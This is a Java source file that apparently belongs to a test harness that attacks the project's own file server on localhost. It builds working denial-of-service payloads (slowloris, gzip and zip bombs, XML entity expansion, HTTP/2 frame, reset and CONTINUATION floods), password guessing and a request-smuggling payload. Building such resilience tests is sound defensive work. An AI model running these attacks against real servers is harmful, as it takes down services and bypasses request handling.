package dev.ferry.cli.hostile;

import static dev.ferry.cli.hostile.Attacker.http2;
import static dev.ferry.cli.hostile.Attacker.message;
import static dev.ferry.cli.hostile.Attacker.send;

import com.google.protobuf.ByteString;
import dev.ferry.wire.internal.RawHttp2;
import dev.ferry.wire.internal.v1.DownloadRequest;
import dev.ferry.wire.internal.v1.FileFacts;
import dev.ferry.wire.internal.v1.FilePart;
import dev.ferry.wire.internal.v1.ListRequest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.zip.GZIPOutputStream;

/**
 * A kind of attack.
 *
 * @param name for people
 * @param clients how many threads make it at a time
 * @param step what each thread does again and again, until the attack ends
 */
record Attack(String name, int clients, Step step) {
  private static final int MANY_BLANKS = 15_000;
  private static final int STREAMS = 50;
  private static final int FRAME = 16_384;
  private static final int HEADER_TABLE_BLANKS = 3_900;
  private static final byte[] NOTHING = {};

  /** One step of one of the clients. */
  @FunctionalInterface
  interface Step {
    /**
     * @param client the number of the thread, from 0
     * @throws IOException if the server ends a connection, which it may
     */
    void run(Attacker attacker, int client) throws IOException, InterruptedException;
  }

  /** The kinds that have stopped others once, and those that never did. */
  static List<Attack> all() {
    return List.of(
        new Attack(
            "announces 71 GiB, sends nothing",
            64,
            (attacker, client) ->
                held(
                    attacker,
                    attacker.head(
                        "PUT",
                        "/files/announced" + client,
                        "Expect",
                        "100-continue",
                        "Content-Length",
                        Long.toString(71L << 30)))),
        new Attack(
            "gzip of zeros, unread",
            64,
            (attacker, client) ->
                held(attacker, attacker.head("GET", "/files/zeros", "Accept-Encoding", "gzip"))),
        new Attack(
            "zip of zeros, unread",
            64,
            (attacker, client) -> held(attacker, attacker.head("GET", "/files/zip/?zip"))),
        new Attack("HTTP/2 bodies that nobody wants", 20, Attack::unwantedBodies),
        new Attack(
            "digests of 200 GB",
            64,
            (attacker, client) ->
                held(
                    attacker,
                    attacker.head(
                        "HEAD", "/files/huge/" + client, "Want-Unencoded-Digest", "sha-256=9"))),
        new Attack(
            "copies of 32 MiB",
            8,
            (attacker, client) ->
                attacker.exchange(
                    attacker.head("COPY", "/files/large", "Destination", "/files/copied" + client),
                    NOTHING)),
        new Attack(
            "lists of 20,000 names, read slowly",
            12,
            (attacker, client) -> held(attacker, attacker.head("GET", "/files/many/"))),
        new Attack("locks of new names", 4, Attack::locks),
        new Attack(
            "15,000 blanks in Accept-Encoding",
            4,
            (attacker, client) ->
                attacker.exchange(
                    attacker.head(
                        "GET",
                        "/files/small",
                        "Accept-Encoding",
                        "a" + " ".repeat(MANY_BLANKS) + "b"),
                    NOTHING)),
        new Attack("blanks from HPACK's table", 2, Attack::indexedBlanks),
        new Attack(
            "a folder 1,000 deep, listed and zipped",
            4,
            (attacker, client) ->
                attacker.exchange(
                    attacker.head(
                        "GET", client % 2 == 0 ? "/files/deep/?recursive" : "/files/deep/?zip"),
                    NOTHING)),
        new Attack(
            "parameters in Accept, tags in If",
            4,
            (attacker, client) ->
                attacker.exchange(
                    attacker.head(
                        client % 2 == 0 ? "GET" : "DELETE",
                        "/files/none/",
                        client % 2 == 0 ? "Accept" : "If",
                        client % 2 == 0
                            ? "text/html" + ";a=\"b\"".repeat(2_000)
                            : "([\"x\"])".repeat(2_000)),
                    NOTHING)),
        new Attack("forms of 10,000 parts", 4, Attack::forms),
        new Attack("XML with entities and depth", 4, Attack::xml),
        new Attack(
            "1,500 ranges that overlap",
            8,
            (attacker, client) ->
                attacker.exchange(
                    attacker.head("GET", "/files/large", "Range", "bytes=0-" + ",0-".repeat(1_500)),
                    NOTHING)),
        new Attack("heads byte by byte", 300, Attack::slowHead),
        new Attack("bodies byte by byte", 64, Attack::slowBody),
        new Attack("uploads that are gzip of zeros", 4, Attack::compressedUpload),
        new Attack(
            "idle connections",
            600,
            (attacker, client) -> {
              Socket unused = client % 2 == 0 ? attacker.http() : attacker.grpc();
              attacker.hold();
            }),
        new Attack("streams that are reset", 4, (attacker, client) -> resets(attacker, false)),
        new Attack("calls that are reset", 4, (attacker, client) -> resets(attacker, true)),
        new Attack("PING and SETTINGS", 4, Attack::frames),
        new Attack("a head without end", 4, Attack::endlessHead),
        new Attack(
            "guesses of a password",
            8,
            (attacker, client) ->
                attacker.exchange(
                    "GET /files/small HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic "
                        + Base64.getEncoder()
                            .encodeToString(
                                (HostileServer.GOOD + ":" + System.nanoTime())
                                    .getBytes(StandardCharsets.US_ASCII))
                        + "\r\n\r\n",
                    NOTHING)),
        new Attack(
            "tokens of 14 KB",
            4,
            (attacker, client) ->
                attacker.exchange(
                    "GET /files/small HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer "
                        + "eyJ.".repeat(3_500)
                        + "\r\n\r\n",
                    NOTHING)),
        new Attack("gRPC messages that never end", 20, Attack::endlessMessages),
        new Attack("gRPC uploads that a limit holds back", 64, Attack::heldBackUpload),
        new Attack("gRPC downloads and lists, unread", 20, Attack::unreadCalls),
        new Attack("gRPC messages that are gzip of zeros", 4, Attack::compressedMessage),
        new Attack("gRPC-Web frames that lie", 4, Attack::webFrames),
        new Attack(
            "requests within requests",
            4,
            (attacker, client) ->
                attacker.exchange(
                    attacker.head(
                        "PUT",
                        "/files/smuggled",
                        "Transfer-Encoding",
                        "xchunked",
                        "Content-Length",
                        "60"),
                    "DELETE /files/small HTTP/1.1\r\nHost: localhost\r\n\r\n"
                        .getBytes(StandardCharsets.US_ASCII))));
  }

  /** What is sent over HTTP/2 until the attack or the connection ends. */
  @FunctionalInterface
  private interface Sending {
    void to(RawHttp2 server) throws IOException, InterruptedException;
  }

  /** Sends over a connection to one of the ports, which is closed then. */
  private static void overHttp2(Attacker attacker, boolean grpc, Sending sending)
      throws IOException, InterruptedException {
    Socket socket = grpc ? attacker.grpc() : attacker.http();
    try {
      sending.to(http2(socket));
    } finally {
      attacker.close(socket);
    }
  }

  /** Sends a head, and neither sends nor reads more. */
  private static void held(Attacker attacker, String head)
      throws IOException, InterruptedException {
    send(attacker.http(), head);
    attacker.hold();
  }

  private static void unwantedBodies(Attacker attacker, int client)
      throws IOException, InterruptedException {
    RawHttp2 raw = http2(attacker.http(), 4, 0);
    raw.send(RawHttp2.HEADERS, RawHttp2.END_HEADERS, 1, attacker.block("GET", "/files/large"));
    raw.send(RawHttp2.HEADERS, RawHttp2.END_HEADERS, 3, attacker.block("GET", "/files/large"));
    for (int i = 0; i < 1_024; i++) {
      raw.send(RawHttp2.DATA, 0, 1, new byte[FRAME]);
      raw.send(RawHttp2.DATA, 0, 3, new byte[FRAME]);
    }
    attacker.hold();
  }

  private static void locks(Attacker attacker, int client) throws IOException {
    byte[] body =
        ("<?xml version=\"1.0\"?><lockinfo xmlns=\"DAV:\"><lockscope><exclusive/></lockscope>"
                + "<locktype><write/></locktype></lockinfo>")
            .getBytes(StandardCharsets.US_ASCII);
    attacker.exchange(
        attacker.head(
            "LOCK",
            "/files/locked" + System.nanoTime(),
            "Content-Length",
            Integer.toString(body.length)),
        body);
  }

  private static void indexedBlanks(Attacker attacker, int client)
      throws IOException, InterruptedException {
    overHttp2(
        attacker,
        false,
        raw -> {
          ByteArrayOutputStream first = new ByteArrayOutputStream();
          first.write(attacker.block("GET", "/files/small"));
          byte[] blanks =
              RawHttp2.fields("accept-encoding", "a" + " ".repeat(HEADER_TABLE_BLANKS) + "b");
          // With an entry of the dynamic table, which is the first one behind the static table.
          blanks[0] = 0x40;
          first.write(blanks);
          raw.send(
              RawHttp2.HEADERS, RawHttp2.END_HEADERS | RawHttp2.END_STREAM, 1, first.toByteArray());
          ByteArrayOutputStream next = new ByteArrayOutputStream();
          next.write(attacker.block("GET", "/files/small"));
          next.write(0x80 | 62);
          byte[] indexed = next.toByteArray();
          for (int stream = 3; !attacker.isOver(); ) {
            for (int i = 0; i < STREAMS; i++, stream += 2) {
              raw.send(
                  RawHttp2.HEADERS, RawHttp2.END_HEADERS | RawHttp2.END_STREAM, stream, indexed);
            }
            for (int left = STREAMS; left > 0; ) {
              RawHttp2.Frame frame = raw.next();
              left -= frame.endsStream() || frame.type() == RawHttp2.RST_STREAM ? 1 : 0;
              if (frame.type() == RawHttp2.DATA && frame.payload().length > 0) {
                raw.allow(0, frame.payload().length);
              }
            }
          }
        });
  }

  private static void forms(Attacker attacker, int client) throws IOException {
    StringBuilder form = new StringBuilder();
    for (int i = 0; i < 10_000; i++) {
      form.append("--b\r\nContent-Disposition: form-data; name=\"n\"\r\n\r\n\r\n");
    }
    byte[] body = form.append("--b--\r\n").toString().getBytes(StandardCharsets.US_ASCII);
    attacker.exchange(
        attacker.head(
            "POST",
            "/files/",
            "Content-Type",
            "multipart/form-data; boundary=b",
            "Content-Length",
            Integer.toString(body.length)),
        body);
  }

  private static void xml(Attacker attacker, int client) throws IOException {
    String text =
        client % 2 == 0
            ? "<!DOCTYPE a [<!ENTITY b \"bbbbbbbbbb\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">"
                + "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><propfind xmlns=\"DAV:\">&d;</propfind>"
            : "<a>".repeat(10_000);
    byte[] body = text.getBytes(StandardCharsets.US_ASCII);
    attacker.exchange(
        attacker.head(
            "PROPFIND", "/files/", "Depth", "1", "Content-Length", Integer.toString(body.length)),
        body);
  }

  private static void slowHead(Attacker attacker, int client)
      throws IOException, InterruptedException {
    Socket socket = attacker.http();
    send(socket, "GET /files/small HTTP/1.1\r\nHost: localhost\r\nX: ");
    while (!attacker.isOver()) {
      send(socket, "x");
      attacker.rest(1_000);
    }
  }

  private static void slowBody(Attacker attacker, int client)
      throws IOException, InterruptedException {
    Socket socket = attacker.http();
    send(socket, attacker.head("PUT", "/files/slow" + client, "Transfer-Encoding", "chunked"));
    while (!attacker.isOver()) {
      send(socket, "1\r\nx\r\n");
      attacker.rest(20);
    }
  }

  private static byte[] gzipOfZeros() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
      for (int i = 0; i < 64; i++) {
        gzip.write(new byte[1 << 20]);
      }
    }
    return bytes.toByteArray();
  }

  private static void compressedUpload(Attacker attacker, int client) throws IOException {
    byte[] body = gzipOfZeros();
    attacker.exchange(
        attacker.head(
            "PUT",
            "/files/inflated" + client,
            "Content-Encoding",
            "gzip",
            "Content-Length",
            Integer.toString(body.length)),
        body);
  }

  private static void resets(Attacker attacker, boolean grpc)
      throws IOException, InterruptedException {
    overHttp2(
        attacker,
        grpc,
        raw -> {
          byte[] block = grpc ? attacker.call("List") : attacker.block("GET", "/files/many/");
          for (int stream = 1; !attacker.isOver(); stream += 2) {
            raw.send(RawHttp2.HEADERS, RawHttp2.END_HEADERS, stream, block);
            if (grpc) {
              byte[] request = ListRequest.newBuilder().setPath("many").build().toByteArray();
              raw.send(
                  RawHttp2.DATA,
                  RawHttp2.END_STREAM,
                  stream,
                  message(false, request.length, request));
            }
            raw.resetStream(stream);
          }
        });
  }

  private static void frames(Attacker attacker, int client)
      throws IOException, InterruptedException {
    overHttp2(
        attacker,
        client % 2 == 0,
        raw -> {
          while (!attacker.isOver()) {
            raw.flood(1_000, RawHttp2.PING, 0, 0, new byte[8]);
            raw.flood(1_000, RawHttp2.SETTINGS, 0, 0, NOTHING);
          }
        });
  }

  private static void endlessHead(Attacker attacker, int client)
      throws IOException, InterruptedException {
    overHttp2(
        attacker,
        client % 2 == 0,
        raw -> {
          raw.send(RawHttp2.HEADERS, 0, 1, attacker.block("GET", "/files/small"));
          while (!attacker.isOver()) {
            raw.flood(1_000, RawHttp2.CONTINUATION, 0, 1, RawHttp2.fields("x", "x".repeat(100)));
          }
        });
  }

  private static void endlessMessages(Attacker attacker, int client)
      throws IOException, InterruptedException {
    RawHttp2 raw = http2(attacker.grpc());
    for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
      raw.send(RawHttp2.HEADERS, RawHttp2.END_HEADERS, stream, attacker.call("Upload"));
      raw.send(RawHttp2.DATA, 0, stream, message(false, 1 << 20, new byte[1_000]));
    }
    for (int i = 0; i < 16; i++) {
      for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
        raw.send(RawHttp2.DATA, 0, stream, new byte[FRAME]);
      }
    }
    attacker.hold();
  }

  private static void heldBackUpload(Attacker attacker, int client)
      throws IOException, InterruptedException {
    overHttp2(
        attacker,
        true,
        raw -> {
          raw.acceptSettings();
          raw.send(RawHttp2.HEADERS, RawHttp2.END_HEADERS, 1, attacker.slowUpload());
          byte[] first =
              FilePart.newBuilder()
                  .setFacts(FileFacts.newBuilder().setName("held-back" + client))
                  .build()
                  .toByteArray();
          raw.send(RawHttp2.DATA, 0, 1, message(false, first.length, first));
          byte[] part =
              FilePart.newBuilder()
                  .setChunk(ByteString.copyFrom(new byte[FRAME / 2]))
                  .build()
                  .toByteArray();
          byte[] chunk = message(false, part.length, part);
          for (int sent = 0; sent < 15 << 20 && !attacker.isOver(); sent += chunk.length) {
            raw.send(RawHttp2.DATA, 0, 1, chunk);
          }
          attacker.rest(60_000);
        });
  }

  private static void unreadCalls(Attacker attacker, int client)
      throws IOException, InterruptedException {
    RawHttp2 raw = http2(attacker.grpc(), 4, client % 2 == 0 ? 0 : 1 << 20);
    for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
      boolean list = stream % 4 == 1;
      byte[] request =
          list
              ? ListRequest.newBuilder().setPath("many").build().toByteArray()
              : DownloadRequest.newBuilder()
                  .setPath("zeros")
                  .setCompress(true)
                  .build()
                  .toByteArray();
      raw.send(
          RawHttp2.HEADERS,
          RawHttp2.END_HEADERS,
          stream,
          attacker.call(list ? "List" : "Download", "grpc-accept-encoding", "gzip"));
      raw.send(RawHttp2.DATA, RawHttp2.END_STREAM, stream, message(false, request.length, request));
    }
    attacker.hold();
  }

  private static void compressedMessage(Attacker attacker, int client)
      throws IOException, InterruptedException {
    overHttp2(
        attacker,
        true,
        raw -> {
          byte[] zeros = gzipOfZeros();
          byte[] message = message(true, zeros.length, zeros);
          for (int stream = 1; !attacker.isOver(); stream += 2) {
            raw.send(
                RawHttp2.HEADERS,
                RawHttp2.END_HEADERS,
                stream,
                attacker.call("Upload", "grpc-encoding", "gzip"));
            for (int from = 0; from < message.length; from += FRAME) {
              int to = Math.min(message.length, from + FRAME);
              raw.send(
                  RawHttp2.DATA,
                  to == message.length ? RawHttp2.END_STREAM : 0,
                  stream,
                  Arrays.copyOfRange(message, from, to));
            }
            RawHttp2.Frame frame = raw.next();
            while (!frame.endsStream() && frame.type() != RawHttp2.RST_STREAM) {
              frame = raw.next();
            }
          }
        });
  }

  private static void webFrames(Attacker attacker, int client)
      throws IOException, InterruptedException {
    byte[] body = message(client % 2 == 0, client < 2 ? Integer.MAX_VALUE : -1, new byte[FRAME]);
    attacker.exchange(
        attacker.head(
            "POST",
            "/ferry.v1.Files/Upload",
            "Content-Type",
            "application/grpc-web+proto",
            "Content-Length",
            Integer.toString(body.length)),
        body);
  }
}
